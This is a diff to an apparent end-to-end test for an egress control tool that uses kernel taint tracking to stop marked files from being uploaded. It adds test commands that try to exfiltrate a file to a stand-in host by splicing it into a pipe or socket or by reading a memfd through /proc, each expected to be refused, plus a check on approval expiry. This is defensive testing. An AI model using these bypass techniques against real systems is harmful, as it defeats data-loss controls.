@@ -5,9 +5,10 @@
 # pipes, stdin redirection, python3, the dynamic loader, copies to tmpfs, base64/xz copies,
 # fork/exec. An untainted shell (even one that only opened the file) still sends, an exempt
 # "browser" is never cut off, content+user+program approved through the real request, sign
-# and redeem path sends (and the same content through a redirection does not), and every denial is an
+# and redeem path sends (and the same content through a redirection does not), an approval
+# ends in the kernel at its window's end, and every denial is an
 # upload.denied record (layer bpf-lsm) naming process, executable, file and class.
-# e2e-timeout: 420
+# e2e-timeout: 600
 . "$E2E_SRCDIR/guest/agent.sh"
 fe_setup
 CURL=/usr/bin/curl
@@ -177,6 +178,34 @@ denied base64-copy "$C -T '$shm/copy.b64' $URL"
 denied xz-copy "$C -T '$shm/copy.xz' $URL"
 # The shell itself reads (the builtin read), then forks and execs curl, which read nothing.
 denied fork-exec "IFS= read -r line <'$f'; bash -c 'exec $C --data-binary fork-exec-DATA $URL'"
+# splice(2) moves data without read() or write(): a file spliced into a pipe marks the pipe
+# (the reader is tainted), a splice from a marked pipe taints the splicer before its write to a
+# socket is checked, so an untainted process that connected first cannot splice the content out.
+denied splice-to-pipe "python3 -c 'import os,sys; fd=os.open(sys.argv[1], os.O_RDONLY); os.splice(fd, 1, os.fstat(fd).st_size)' '$f' | $C --data-binary @- $URL"
+denied splice-to-socket "cat '$f' | python3 -c 'import os,socket,sys; s=socket.create_connection((\"192.0.2.1\", 8080), 10); print(\"connected\", file=sys.stderr); s.sendall(b\"PUT /up HTTP/1.0\r\nContent-Length: 200\r\n\r\n\"); print(\"header sent\", file=sys.stderr); os.splice(0, s.fileno(), 65536)'"
+grep -q "header sent" "$E2E_SCRATCH/splice-to-socket.out" ||
+	fail "splice-to-socket: refused before the splice: $(cat "$E2E_SCRATCH/splice-to-socket.out") $(tail -n 2 "$FE_LOG"/egress-*.jsonl | cut -c1-500)"
+fe_log_has '"upload.denied"' bpf-lsm 'write to a network socket' >/dev/null ||
+	fail "the refused splice to a socket is not logged as a write: $(tail -n 1 "$FE_LOG"/egress-*.jsonl | cut -c1-600)"
+# memfd: written by a tainted process, read through /proc by an untainted one, which is then
+# tainted (write() marks the memfd's inode like a file's).
+rm -f "$shm/memfd.path" "$shm/memfd.ready"
+# The holder names its memfd before it reads the file (a file a tainted process writes is
+# marked, and this shell must not read one), then says it is ready by creating a file.
+e2e_as hanako timeout 60 python3 -c '
+import os, sys, time
+m = os.memfd_create("x")
+open(sys.argv[2], "w").write("/proc/%d/fd/%d" % (os.getpid(), m))
+d = open(sys.argv[1], "rb").read()
+os.write(m, d)
+open(sys.argv[3], "w").close()
+time.sleep(50)' "$f" "$shm/memfd.path" "$shm/memfd.ready" &
+MPID=$!
+for ((i = 0; i < 100; i++)); do [ -e "$shm/memfd.ready" ] && break; sleep 0.1; done
+[ -e "$shm/memfd.ready" ] || fail "the memfd holder did not start"
+denied memfd "$C --data-binary @$(cat "$shm/memfd.path") $URL"
+kill "$MPID" 2>/dev/null
+wait "$MPID" 2>/dev/null || true
 fe_log_has '"upload.denied"' bpf-lsm 'tried to connect' >/dev/null || fail "no refused connect logged"
 fe_log_has '"upload.denied"' bpf-lsm 'tried to send' >/dev/null || fail "no refused send logged"
 
@@ -210,6 +239,45 @@ rc=0
 e2e_as dave timeout 30 bash -c "$C -T - $URL <'$f'" || rc=$?
 [ "$rc" -ne 0 ] && ! grep -q "$MARKER" "$recv" || fail "dave's curl sent under hanako's approval"
 [ "$(denials)" -gt "$before" ] || { sleep 1; [ "$(denials)" -gt "$before" ]; } || fail "dave's refusal not logged"
+
+# The window's end is the kernel's own: an approval ends in the BPF program at its window's
+# end (the boot clock), not up to a minute later at the agent's tick. A second file with other
+# content (so the first approval does not cover it) is approved for 120 s (the approver puts
+# not_before 60 s back: about 60 s are left), sent through a redirection while the window is
+# open, and the same redirection right after the end must be refused and logged.
+f2=$U/tender-78-bid.txt
+e2e_as hanako sh -c "printf '%s second bid 7654321 yen (TEST ONLY)\n' $MARKER >'$f2'"
+setfattr -n trusted.futari.class -v II "$f2" || fail "cannot label $f2"
+marked=$(status taint_marked)
+for ((i = 0; i < 50; i++)); do
+	[ "$(status taint_marked)" -gt "$marked" ] && break
+	e2e_as hanako cat "$f2" >/dev/null || true
+	sleep 0.1
+done
+[ "$(status taint_marked)" -gt "$marked" ] || fail "the agent never marked $f2"
+out=$(e2e_as hanako "$FUTARI" upload-request "$f2" --to 192.0.2.1 --app "$CURL" \
+	--reason "send the second bid" 2>&1) || fail "futari upload-request (short window) failed: $out"
+fe_sign alice "$f2.futari-request" "$E2E_SCRATCH/up2.futari-approval" --valid-for 120s ||
+	fail "alice could not sign the short upload approval: $(cat "$FE/sign.out")"
+cp "$E2E_SCRATCH/up2.futari-approval" /home/hanako/tender-78.futari-approval
+chown hanako: /home/hanako/tender-78.futari-approval
+e2e_as hanako "$FUTARI" redeem --json /home/hanako/tender-78.futari-approval >"$E2E_SCRATCH/redeem2.json" 2>&1 ||
+	fail "futari redeem of the short approval refused: $(cat "$E2E_SCRATCH/redeem2.json")"
+na=$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["not_after"])' "$E2E_SCRATCH/redeem2.json") ||
+	fail "no not_after in the redeem reply: $(cat "$E2E_SCRATCH/redeem2.json")"
+[ "$na" -gt "$(date +%s)" ] || fail "the short approval ended before it could be used (not_after $na, now $(date +%s))"
+allowed short-approved hanako "$C -T '$f2' $URL"
+allowed short-redirected hanako "$C -T - $URL <'$f2'"
+approvals=$(status taint_approvals)
+expired=$(status taint_expired)
+while [ "$(date +%s)" -le "$na" ]; do sleep 0.2; done
+denied short-ended "$C -T - $URL <'$f2'"
+late=$(($(date +%s) - na - 1))
+# The kernel found the key ended and deleted it itself, unless the agent's minute tick came
+# first (then it withdrew the approval: taint_approvals went down).
+[ "$(status taint_expired)" -gt "$expired" ] || [ "$(status taint_approvals)" -lt "$approvals" ] ||
+	fail "the send after the window was refused, but neither the kernel nor the tick ended the approval"
+note "short approval: refused ${late}s after its window ended (expired in the kernel: $(status taint_expired))"
 note "taint: $("$FUTARI" status | grep '^enforcement')"
 
 # A full ring buffer is a gap, never a silent loss: with the agent stopped (SIGSTOP) a tainted
